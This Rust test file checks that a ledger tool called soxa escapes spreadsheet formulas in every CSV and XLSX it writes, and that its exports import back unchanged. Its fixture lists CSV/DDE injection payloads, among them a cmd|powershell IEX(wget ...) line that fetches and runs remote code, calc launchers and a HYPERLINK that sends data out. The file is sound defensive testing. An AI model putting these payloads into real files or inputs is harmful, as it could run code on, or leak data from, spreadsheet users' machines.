//! CSV injection (issue 17, item 5), the class "text the clerk typed comes
//! out of a CSV as a formula": many formulas (HYPERLINK, @SUM with a DDE
//! payload, +cmd|, -2+3, DDE(), a tab, a carriage return, leading spaces,
//! full-width `＝`, a typed `'` before `=`) in household names, addresses
//! and notes, member names and notes, case parties and content, through
//! every CSV soxa writes: `export households`, `export members`, every file
//! of `report --format csv` (the "not signed" list included) and the
//! import's rejected-rows file. No cell of any of them may start (after
//! spaces) with `=`, `+`, `-`, `@`, tab or CR; every formula is found there
//! with its `'`; an exported CSV imported into a new ledger gives back the
//! very same text; and the XLSX outputs hold the formulas as text cells,
//! with no formula in any sheet.

use std::collections::BTreeSet;
use std::fs;
use std::io::Cursor;
use std::path::{Path, PathBuf};

use calamine::{Data, Reader, Xlsx};
use soxa::domain::{CaseCategory, Household, MediationCase, Role, TeamKind};
use soxa::output::csv::{neutralise, restore};
use soxa::store::Store;
use tempfile::TempDir;

use crate::common::{
    commune, export_unlocked, hamlet, household, member, now, open_at, party, soxa, stderr, stdout, team,
};

/// What a spreadsheet would run; stored as typed (after the usual
/// cleaning of names, which takes control characters away).
const FORMULAS: [&str; 12] = [
    "=HYPERLINK(\"http://x/?\"&A2,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "@A1",
    "=1+1",
    "+84 912 345 678",
    "-Nguyễn",
    "＝1+1",
    "'=typed quote",
];

/// Only for notes and case content, which keep tabs and line breaks.
const WITH_CONTROLS: [&str; 2] = ["\t=1+1", "\r=2+2"];

fn dangerous(cell: &str) -> bool {
    cell.trim_start_matches([' ', '\u{a0}']).starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])
}

/// A ledger whose text fields are all formulas.
fn hostile_ledger(dir: &Path) -> Vec<Household> {
    let store = open_at(dir);
    store.save_commune(commune()).unwrap();
    let dong = store.insert(hamlet("T01", "Đông")).unwrap().id;
    let mut saved = Vec::new();
    for (i, f) in FORMULAS.iter().enumerate() {
        let mut h = household(&format!("T01-{:04}", i + 1), dong, f);
        h.address = (*f).to_string();
        h.notes = (*WITH_CONTROLS.get(i).unwrap_or(f)).to_string();
        saved.push(store.insert(h).unwrap());
    }
    let t = store.insert(team("Tổ hòa giải thôn Đông", TeamKind::Mediation, Some(dong))).unwrap().id;
    for (i, f) in FORMULAS.iter().enumerate() {
        let mut m = member(t, f, if i == 0 { Role::Leader } else { Role::Member });
        m.notes = (*f).to_string();
        store.insert(m).unwrap();
    }
    add_cases(&store, dong);
    saved
}

fn add_cases(store: &Store, hamlet: soxa::domain::Id) {
    for pair in FORMULAS.chunks(2) {
        let parties = pair.iter().map(|f| party(f, None)).collect();
        let mut c = MediationCase::new(now().date() - chrono::Days::new(60), hamlet, CaseCategory::Civil, parties);
        c.content = pair[0].to_string();
        store.insert(c).unwrap();
    }
}

fn run(db: &Path, args: &[&str]) -> std::process::Output {
    let mut all = vec!["--lang", "en", "--db", db.to_str().unwrap()];
    all.extend_from_slice(args);
    let out = soxa(&all);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{args:?}: {}{}", stdout(&out), stderr(&out));
    out
}

/// `run`, for an export with personal data: written locked, opened beside
/// its ZIP (`common::export_unlocked`).
fn unlocked(db: &Path, args: &[&str], asked: &Path) {
    let mut all = vec!["--lang", "en", "--db", db.to_str().unwrap()];
    all.extend_from_slice(args);
    export_unlocked(&all, asked);
}

/// Every cell of a CSV file (comma separated, BOM or not).
fn cells(path: &Path) -> Vec<String> {
    let bytes = fs::read(path).unwrap();
    let text = String::from_utf8(bytes).unwrap();
    let text = text.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    reader.records().flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>()).collect()
}

/// No cell of `files` can run; returns the texts found there with the
/// `'` soxa added (as the importer reads them back).
fn assert_neutral(files: &[PathBuf]) -> BTreeSet<String> {
    let mut found = BTreeSet::new();
    for file in files {
        for cell in cells(file) {
            assert!(!dangerous(&cell), "{}: {cell:?}", file.display());
            if neutralise(restore(&cell)) == cell && restore(&cell) != cell {
                found.insert(restore(&cell).to_string());
            }
        }
    }
    found
}

/// The texts saved in `saved` a spreadsheet could run.
fn formulas_of(saved: &[Household]) -> BTreeSet<String> {
    let texts = saved.iter().flat_map(|h| [&h.head_name, &h.address, &h.notes]);
    texts.filter(|t| neutralise(t) != t.as_str()).cloned().collect()
}

/// The files a `soxa report` printed.
fn printed_files(out: &std::process::Output) -> Vec<PathBuf> {
    stdout(out)
        .lines()
        .filter_map(|l| l.trim().split(" (").next())
        .filter(|p| p.ends_with(".csv"))
        .map(PathBuf::from)
        .collect()
}

struct Setup {
    tmp: TempDir,
    saved: Vec<Household>,
}

fn setup() -> Setup {
    let tmp = tempfile::tempdir().unwrap();
    let saved = hostile_ledger(&tmp.path().join("db"));
    Setup { tmp, saved }
}

impl Setup {
    fn db(&self) -> PathBuf {
        self.tmp.path().join("db")
    }
    fn out(&self, name: &str) -> PathBuf {
        self.tmp.path().join(name)
    }
}

#[test]
fn no_csv_soxa_writes_holds_a_formula() {
    let s = setup();
    let (h, m) = (s.out("h.csv"), s.out("m.csv"));
    unlocked(&s.db(), &["export", "households", h.to_str().unwrap(), "--include-personal"], &h);
    run(&s.db(), &["export", "members", m.to_str().unwrap()]);
    let found = assert_neutral(std::slice::from_ref(&h));
    let saved = formulas_of(&s.saved);
    assert!(saved.len() >= FORMULAS.len(), "{saved:?}");
    assert!(found.is_superset(&saved), "names, addresses and notes: {found:?} {saved:?}");
    assert!(assert_neutral(&[m]).len() >= FORMULAS.len());

    let report =
        run(&s.db(), &["report", "--period", "2026", "--format", "csv", "-o", s.out("r.csv").to_str().unwrap()]);
    let files = printed_files(&report);
    assert!(files.len() >= 5, "{}", stdout(&report));
    let not_signed = files.iter().find(|f| f.to_string_lossy().contains("not-signed")).unwrap();
    let in_list = assert_neutral(std::slice::from_ref(not_signed));
    assert!(in_list.len() >= FORMULAS.len() - 1, "the not-signed list names every household: {in_list:?}");
    assert!(!assert_neutral(&files).is_empty());
    // Case parties and content, in the open cases list.
    let open = files.iter().find(|f| f.to_string_lossy().contains("open-cases")).unwrap();
    let in_cases = assert_neutral(std::slice::from_ref(open));
    assert!(in_cases.len() >= FORMULAS.len() / 2, "case content: {in_cases:?}");

    // The rejected-rows file: the export with one refused row made of formulas.
    let input = s.out("ho.csv");
    let mut bytes = fs::read(&h).unwrap();
    // A new household in a known hamlet, every other cell a formula (its
    // birth year "=HYPERLINK..." is what refuses it).
    let hamlet_cells = cells(&h)[15..17].join(",");
    let bad: Vec<String> = FORMULAS[..11].iter().map(|f| format!("\"{}\"", f.replace('"', "\"\""))).collect();
    bytes.extend_from_slice(format!("ZZ-0001,{hamlet_cells},{}\r\n", bad.join(",")).as_bytes());
    fs::write(&input, bytes).unwrap();
    let imported = run(&s.db(), &["import", "households", input.to_str().unwrap()]);
    let rejects = s.out("ho-loi.csv");
    assert!(rejects.is_file(), "{}{}", stdout(&imported), stderr(&imported));
    let in_rejects = assert_neutral(&[rejects]);
    assert!(in_rejects.len() >= FORMULAS.len() - 1, "{in_rejects:?}");
}

#[test]
fn an_exported_csv_imports_back_as_it_was() {
    let s = setup();
    let h = s.out("h.csv");
    unlocked(&s.db(), &["export", "households", h.to_str().unwrap(), "--include-personal"], &h);
    let fresh = s.out("fresh");
    {
        let store = open_at(&fresh);
        store.save_commune(commune()).unwrap();
    }
    let out = run(&fresh, &["import", "households", h.to_str().unwrap(), "--create-hamlets"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    let store = open_at(&fresh);
    let back: Vec<Household> = store.all::<Household>().unwrap();
    let texts = |hs: &[Household]| -> BTreeSet<(String, String, String, String)> {
        hs.iter().map(|h| (h.code.clone(), h.head_name.clone(), h.address.clone(), h.notes.clone())).collect()
    };
    assert_eq!(texts(&back), texts(&s.saved), "export -> import is the identity");
}

/// Every sheet of the workbook at `path`: no formula anywhere, and every
/// formula text is a text cell.
fn assert_text_only(path: &Path) -> BTreeSet<String> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(fs::read(path).unwrap())).unwrap();
    let mut found = BTreeSet::new();
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{}: a formula in {name}", path.display());
        for (_, _, cell) in book.worksheet_range(&name).unwrap().used_cells() {
            if let Data::String(text) = cell
                && FORMULAS.iter().chain(&WITH_CONTROLS).any(|f| text == f)
            {
                found.insert(text.clone());
            }
        }
    }
    found
}

#[test]
fn xlsx_outputs_keep_formulas_as_text() {
    let s = setup();
    let (h, m, r) = (s.out("h.xlsx"), s.out("m.xlsx"), s.out("r.xlsx"));
    run(&s.db(), &["export", "households", h.to_str().unwrap()]);
    run(&s.db(), &["export", "members", m.to_str().unwrap()]);
    run(&s.db(), &["report", "--period", "2026", "-o", r.to_str().unwrap()]);
    assert!(assert_text_only(&h).len() >= FORMULAS.len(), "households");
    assert!(assert_text_only(&m).len() >= FORMULAS.len(), "members");
    assert!(assert_text_only(&r).len() >= FORMULAS.len() - 1, "report");
}
